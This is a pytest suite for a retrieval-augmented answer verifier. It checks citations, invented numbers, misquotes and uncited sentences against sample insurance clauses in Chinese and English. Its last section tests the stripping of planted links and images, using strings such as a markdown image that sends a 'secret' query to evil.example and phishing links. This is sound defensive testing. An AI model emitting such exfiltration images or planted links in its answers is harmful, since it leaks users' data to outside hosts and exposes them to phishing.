"""Checks on a draft answer: each fires exactly where there is a problem, once, and nowhere else."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rag.verify import Verification, parse_citations, split_sentences, verify_answer

ZH = {
    1: "保险人收到被保险人的赔偿请求后，应当在十五日内作出核定；情形复杂的，应当在三十日内作出核定。",
    2: "本合同的等待期为90天。被保险人在等待期内确诊的疾病，保险人不承担给付保险金的责任。",
    3: "每次事故的免赔额为1,000元，免赔额以上部分按百分之八十的比例给付。",
}
EN = {
    1: "The insurer shall decide on a claim within fifteen days of receiving it; in complex cases, within 30 days.",
    2: "The waiting period is 90 days. Illness diagnosed during the waiting period is not covered.",
    3: "The deductible is $1,000 per accident. Above the deductible the policy pays 80%.",
}
ZH_GOOD = "保险人应在15天内作出核定[1]。等待期为九十日[2]，免赔额为1000元，超出部分赔付80%[3]。"
EN_GOOD = (
    "The insurer decides within 15 days [1]. The waiting period is ninety days [2], and the deductible is $1,000 [3]."
)


def problems(v: Verification) -> dict[str, list[object]]:
    """Every finding of a verification, to compare whole."""
    return {
        "invalid_citations": list(v.invalid_citations),
        "unsupported_sentences": list(v.unsupported_sentences),
        "misquotes": list(v.misquotes),
        "unsupported_numbers": list(v.unsupported_numbers),
    }


NONE: dict[str, list[object]] = {
    "invalid_citations": [],
    "unsupported_sentences": [],
    "misquotes": [],
    "unsupported_numbers": [],
}


# --- parse_citations ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("见[1]。", [[1]]),
        ("见[1][2]。", [[1], [2]]),
        ("see [1, 2].", [[1, 2]]),
        ("see [1,2,3].", [[1, 2, 3]]),
        ("see [1-3].", [[1, 2, 3]]),
        ("see [2–4].", [[2, 3, 4]]),
        ("见【1】。", [[1]]),
        ("见【1，2】。", [[1, 2]]),
        ("见【1、3】。", [[1, 3]]),
        ("见［１］和【２，３】。", [[1], [2, 3]]),
        ("see [ 12 ]", [[12]]),
        ("see [2, 2]", [[2]]),
    ],
)
def test_citation_formats(text: str, expected: list[list[int]]) -> None:
    found = parse_citations(text)
    assert [numbers for _, _, numbers in found] == expected
    for start, end, _ in found:
        assert text[start] in "[【［" and text[end - 1] in "]】］"


@pytest.mark.parametrize("text", ["[a]", "[1a]", "(1)", "[]", "[1.5]", "第1条", "costs 3,000"])
def test_not_citations(text: str) -> None:
    assert parse_citations(text) == []


# --- split_sentences ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("等待期为90天。免赔额为1000元！是否续保？", ["等待期为90天。", "免赔额为1000元！", "是否续保？"]),
        ("保险人应在十五日内核定。[1] 等待期为90天[2]。", ["保险人应在十五日内核定。[1]", "等待期为90天[2]。"]),
        ("情形复杂的；应在三十日内核定。", ["情形复杂的；", "应在三十日内核定。"]),
        ("第一行\n第二行", ["第一行", "第二行"]),
        ("The rate is 3.5 per cent. It rises.", ["The rate is 3.5 per cent.", "It rises."]),
        ("Costs, e.g. dental, are excluded [1]. Others not.", ["Costs, e.g. dental, are excluded [1].", "Others not."]),
        ("It lasts 90 days [1]. Then it ends [2].", ["It lasts 90 days [1].", "Then it ends [2]."]),
        ("It lasts 90 days. [1][2] Then it ends.", ["It lasts 90 days. [1][2]", "Then it ends."]),
        ("Really? Yes!", ["Really?", "Yes!"]),
        ("条款写明“应当赔付。不得拖延。”[1]然后结束。", ["条款写明“应当赔付。不得拖延。”[1]", "然后结束。"]),
        ("条款写明“应当赔付。不得拖延”[1]，然后结束。", ["条款写明“应当赔付。不得拖延”[1]，然后结束。"]),
        ("  \n\n", []),
    ],
)  # fmt: skip
def test_split_sentences(text: str, expected: list[str]) -> None:
    assert split_sentences(text) == expected


@given(st.lists(st.sampled_from(["等待期为90天。", "免赔额为1,000元[1]。", "It is 3.5% [2].", "Yes!"]), max_size=6))
def test_sentences_joined_split_back(sentences: list[str]) -> None:
    assert split_sentences(" ".join(sentences)) == sentences


# --- a correct answer gives no warnings --------------------------------------------------------------


@pytest.mark.parametrize(("answer", "passages"), [(ZH_GOOD, ZH), (EN_GOOD, EN)])
def test_correct_answer_gives_no_warnings(answer: str, passages: dict[int, str]) -> None:
    v = verify_answer(answer, passages)
    assert v.warnings == []
    assert problems(v) == NONE
    assert v.answer == answer
    assert v.cited == [1, 2, 3]


def test_cited_is_unique_in_order_of_first_appearance() -> None:
    v = verify_answer("等待期为90天[2]。核定期限为十五日[1][2]。免赔额1,000元[3, 2]。", ZH)
    assert v.cited == [2, 1, 3]
    assert v.warnings == []


@given(st.lists(st.sampled_from(sorted(ZH)), min_size=1, max_size=6))
def test_quoting_cited_passages_verbatim_is_always_clean(order: list[int]) -> None:
    answer = "".join(f"条款原文为“{ZH[n]}”[{n}]。" for n in order)
    v = verify_answer(answer, ZH)
    assert v.warnings == []
    assert v.cited == list(dict.fromkeys(order))


# --- an out-of-range citation: one warning, and the marker goes -------------------------------------


@pytest.mark.parametrize(
    ("answer", "passages", "cleaned"),
    [
        (
            "保险人应在15天内作出核定[1][7]。等待期为90天[2]。",
            ZH,
            "保险人应在15天内作出核定[1]。等待期为90天[2]。",
        ),
        (
            "The insurer decides within 15 days [1] [7]. The waiting period is 90 days [2].",
            EN,
            "The insurer decides within 15 days [1]. The waiting period is 90 days [2].",
        ),
    ],
)
def test_out_of_range_citation(answer: str, passages: dict[int, str], cleaned: str) -> None:
    v = verify_answer(answer, passages)
    assert v.answer == cleaned
    assert v.invalid_citations == [7]
    assert v.cited == [1, 2]
    assert problems(v) == NONE | {"invalid_citations": [7]}
    assert len(v.warnings) == 1
    assert "[7]" in v.warnings[0] and "3" in v.warnings[0]


@pytest.mark.parametrize(
    ("answer", "passages", "cleaned"),
    [
        ("等待期为90天[7]。", ZH, "等待期为90天。"),
        ("The waiting period is 90 days [7].", EN, "The waiting period is 90 days."),
        ("[7] The waiting period is 90 days.", EN, "The waiting period is 90 days."),
    ],
)
def test_a_sentence_whose_only_citation_is_invalid_is_reported_once(
    answer: str, passages: dict[int, str], cleaned: str
) -> None:
    v = verify_answer(answer, passages)
    assert v.answer == cleaned
    assert problems(v) == NONE | {"invalid_citations": [7]}
    assert len(v.warnings) == 1


@pytest.mark.parametrize(
    ("answer", "cleaned", "invalid"),
    [
        ("等待期为90天[2, 7]。", "等待期为90天[2]。", [7]),
        ("等待期为90天【2，9】。", "等待期为90天【2】。", [9]),
        ("等待期为90天[1-5]。", "等待期为90天[1, 2, 3]。", [4, 5]),
    ],
)
def test_a_marker_keeps_its_valid_numbers(answer: str, cleaned: str, invalid: list[int]) -> None:
    v = verify_answer(answer, ZH)
    assert v.answer == cleaned
    assert v.invalid_citations == invalid
    assert len(v.warnings) == len(invalid)


def test_an_invalid_number_is_reported_once_however_often_it_appears() -> None:
    v = verify_answer("等待期为90天[2][7]。核定期限为十五日[1][7]。", ZH)
    assert v.invalid_citations == [7]
    assert len(v.warnings) == 1


def test_every_citation_is_invalid_when_no_passages_were_sent() -> None:
    v = verify_answer("The waiting period is 90 days [1].", {})
    assert v.invalid_citations == [1]
    assert v.cited == []
    assert "[1]" not in v.answer


# --- a fabricated number: one warning ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("answer", "passages", "fabricated"),
    [
        ("保险人应在15天内作出核定[1]。免赔额为3,000元[3]。", ZH, "3,000元"),
        ("保险人应在15天内作出核定[1]。超出部分赔付百分之七十[3]。", ZH, "百分之七十"),
        ("The insurer decides within 15 days [1]. The deductible is $3,000 [3].", EN, "3,000"),
        ("The insurer decides within 15 days [1]. The policy pays 70% above it [3].", EN, "70%"),
    ],
)
def test_fabricated_number(answer: str, passages: dict[int, str], fabricated: str) -> None:
    v = verify_answer(answer, passages)
    assert problems(v) == NONE | {"unsupported_numbers": [fabricated]}
    assert v.warnings == [f"number {fabricated} is not in the cited sources [1][3]"]
    assert v.answer == answer


def test_a_number_must_be_in_a_cited_passage_not_just_a_sent_one() -> None:
    v = verify_answer("等待期为90天[1]。", ZH)  # 90 is in [2], which the answer does not cite
    assert v.unsupported_numbers == ["90"]
    assert len(v.warnings) == 1


def test_a_number_written_twice_is_reported_once() -> None:
    v = verify_answer("免赔额为3,000元[3]。即三千元[3]。", ZH)
    assert v.unsupported_numbers == ["3,000元"]
    assert len(v.warnings) == 1


def test_numbers_are_checked_against_every_passage_when_nothing_is_cited() -> None:
    v = verify_answer("根据资料，等待期为90天，免赔额1,000元，赔付比例80%，核定期限15天，另收20元手续费", ZH)
    assert v.unsupported_numbers == ["20元"]


# --- a misquote: one warning -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("answer", "passages", "quote"),
    [
        ("条款规定“应当在十日内作出核定”[1]。等待期为90天[2]。", ZH, "应当在十日内作出核定"),
        ("条款规定「在等待期内确诊的疾病，保险人承担责任」[2]。", ZH, "在等待期内确诊的疾病，保险人承担责任"),
        ('The policy says "illness diagnosed during the waiting period is covered" [2].', EN,
         "illness diagnosed during the waiting period is covered"),
        ("The policy says “the insurer may decide within 60 days” [1].", EN, "the insurer may decide within 60 days"),
    ],
)  # fmt: skip
def test_misquote(answer: str, passages: dict[int, str], quote: str) -> None:
    v = verify_answer(answer, passages)
    assert problems(v) == NONE | {"misquotes": [quote]}
    assert len(v.warnings) == 1
    assert "cited sources" in v.warnings[0]


@pytest.mark.parametrize(
    "answer",
    [
        "条款规定“应当在十五日内作出核定”[1]。",
        "条款规定『情形复杂的,应当在三十日内作出核定』[1]。",  # ASCII comma for the full-width one
        "条款规定“等待期为９０天”[2]。",  # full-width digits
        "条款规定“保险人收到……赔偿请求后，应当在十五日内作出核定”[1]。",  # an ellipsis for left-out words
        "条款规定“本合同的等待期为90天”。",  # cites nothing, so any passage may hold it
    ],
)
def test_quotes_found_after_normalisation(answer: str) -> None:
    v = verify_answer(answer, ZH)
    assert v.misquotes == []


def test_english_quotes_ignore_case_and_spacing() -> None:
    v = verify_answer('It says "THE WAITING   period is 90 days" [2].', EN)
    assert v.warnings == []


def test_a_quote_must_be_in_the_passage_its_sentence_cites() -> None:
    v = verify_answer("条款规定“本合同的等待期为90天”[1]。", ZH)  # the words are in [2], not [1]
    assert v.misquotes == ["本合同的等待期为90天"]
    assert v.unsupported_numbers == []  # the quote's number is reported with the quote
    assert len(v.warnings) == 1


def test_a_quote_in_an_uncited_sentence_may_be_in_any_passage() -> None:
    v = verify_answer("Note: “the waiting period lasts a year”.", EN)
    assert v.misquotes == ["the waiting period lasts a year"]
    assert "any of the sources" in v.warnings[-1]


# --- an uncited sentence: one warning ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("answer", "passages", "uncited"),
    [
        ("保险人应在15天内作出核定[1]。理赔材料需要由被保险人本人提交。", ZH, "理赔材料需要由被保险人本人提交。"),
        ("The insurer decides within 15 days [1]. Claims must be filed by the policyholder in person.", EN,
         "Claims must be filed by the policyholder in person."),
    ],
)  # fmt: skip
def test_uncited_sentence(answer: str, passages: dict[int, str], uncited: str) -> None:
    v = verify_answer(answer, passages)
    assert problems(v) == NONE | {"unsupported_sentences": [uncited]}
    assert len(v.warnings) == 1


def test_an_uncited_sentence_may_use_a_number_from_any_sent_passage() -> None:
    v = verify_answer("保险人应在15天内作出核定[1]。等待期为90天。", ZH)
    assert problems(v) == NONE | {"unsupported_sentences": ["等待期为90天。"]}


def test_an_uncited_sentence_with_a_made_up_number_gives_two_warnings() -> None:
    v = verify_answer("保险人应在15天内作出核定[1]。等待期为120天。", ZH)
    assert problems(v) == NONE | {"unsupported_sentences": ["等待期为120天。"], "unsupported_numbers": ["120"]}
    assert len(v.warnings) == 2


@pytest.mark.parametrize(
    ("answer", "passages"),
    [
        ("## 核定期限\n保险人应在15天内作出核定[1]。", ZH),
        ("核定期限：\n保险人应在15天内作出核定[1]。", ZH),
        ("是的。保险人应在15天内作出核定[1]。", ZH),
        ("资料中没有提及牙科治疗是否在保障范围内。保险人应在15天内作出核定[1]。", ZH),
        ("所提供的资料未说明续保条件。保险人应在15天内作出核定[1]。", ZH),
        ("Yes. The insurer decides within 15 days [1].", EN),
        ("**Answer**\nThe insurer decides within 15 days [1].", EN),
        ("The provided sources do not mention dental treatment. The insurer decides within 15 days [1].", EN),
        ("The passages contain no information about renewal. The insurer decides within 15 days [1].", EN),
        ("1. The insurer decides within 15 days [1].\n2. The waiting period is 90 days [2].", EN),
    ],
)
def test_headings_fragments_and_no_answer_sentences_need_no_citation(answer: str, passages: dict[int, str]) -> None:
    v = verify_answer(answer, passages)
    assert v.warnings == []


def test_a_claim_that_something_is_excluded_still_needs_a_citation() -> None:
    v = verify_answer("本保险不包含牙科治疗的费用。保险人应在15天内作出核定[1]。", ZH)
    assert v.unsupported_sentences == ["本保险不包含牙科治疗的费用。"]


# --- everything at once ------------------------------------------------------------------------------


def test_each_problem_is_reported_once_in_order() -> None:
    answer = (
        "保险人应在15天内作出核定[1][9]。条款规定“等待期为30天”[2]。免赔额为2,000元[3]。理赔需要本人到柜台办理手续。"
    )
    v = verify_answer(answer, ZH)
    assert problems(v) == {
        "invalid_citations": [9],
        "unsupported_sentences": ["理赔需要本人到柜台办理手续。"],
        "misquotes": ["等待期为30天"],
        "unsupported_numbers": ["2,000元"],
    }
    assert len(v.warnings) == 4
    assert v.warnings[0].startswith("citation [9]")
    assert "[9]" not in v.answer


@given(st.text(alphabet=st.sampled_from(list('等待期为90天。.!?！？；“”"「」[]【】1237,，- \nabc e.g.十五日'))))
def test_any_answer_verifies_without_error(answer: str) -> None:
    v = verify_answer(answer, ZH)
    assert set(v.cited) <= set(ZH)
    assert not set(v.invalid_citations) & set(ZH)
    assert all(n in set(ZH) for _, _, numbers in parse_citations(v.answer) for n in numbers)


# --- links and images (a planted link must not reach the user) ------------------------------------------

LINKED = {1: "Claims are filed at https://claims.example.com/form within 30 days.", 2: "The waiting period is 90 days."}


def test_images_are_always_removed_even_when_their_url_is_in_a_cited_passage() -> None:
    answer = (
        "File within 30 days [1]. ![x](http://evil.example/leak?q=secret) "
        "![form](https://claims.example.com/form) <img src=\"http://evil.example/p.png\">"
    )
    v = verify_answer(answer, LINKED)
    assert "![" not in v.answer and "<img" not in v.answer and "evil.example" not in v.answer
    assert "claims.example.com" not in v.answer
    assert v.removed_links == [
        "![x](http://evil.example/leak?q=secret)",
        "![form](https://claims.example.com/form)",
        '<img src="http://evil.example/p.png">',
    ]
    assert sum(w.startswith("image removed") for w in v.warnings) == 3


def test_a_url_stays_only_when_a_cited_passage_holds_it() -> None:
    answer = (
        "File at [the form](https://claims.example.com/form) within 30 days [1]. "
        "Log in at [portal](http://evil.example/phish) or <http://evil.example/a> or www.evil.example/b. "
        "The waiting period is 90 days, see https://claims.example.com/form [2]."
    )
    v = verify_answer(answer, LINKED)
    # Cited in [1]: kept as a link. The same URL in a sentence citing only [2] is still in a cited passage.
    assert "[the form](https://claims.example.com/form)" in v.answer
    assert "see https://claims.example.com/form [2]" in v.answer
    assert "evil.example" not in v.answer and "Log in at portal or" in v.answer
    assert v.removed_links == ["[portal](http://evil.example/phish)", "<http://evil.example/a>", "www.evil.example/b"]
    assert [w for w in v.warnings if "removed: not in a cited source" in w] == [
        f"link to {link} removed: not in a cited source" for link in v.removed_links
    ]


def test_a_url_of_an_uncited_passage_is_removed() -> None:
    v = verify_answer("The waiting period is 90 days [2]. Forms: https://claims.example.com/form.", LINKED)
    assert v.removed_links == ["https://claims.example.com/form"] and v.answer.endswith("Forms: .")


def test_guard_stream_removes_an_image_split_across_deltas_and_keeps_the_rest() -> None:
    from rag.verify import guard_stream

    text = (
        "File at https://claims.example.com/form [1]. ![x](http://evil.example/q) "
        "See [site](http://evil.example/p) now."
    )
    passages = ["Claims go to https://claims.example.com/form within 30 days."]
    for size in (1, 3, 7, len(text)):
        deltas = [text[i : i + size] for i in range(0, len(text), size)]
        streamed = "".join(guard_stream(deltas, passages))
        assert "evil.example" not in streamed and "![" not in streamed
        assert "https://claims.example.com/form [1]." in streamed and "See site now." in streamed
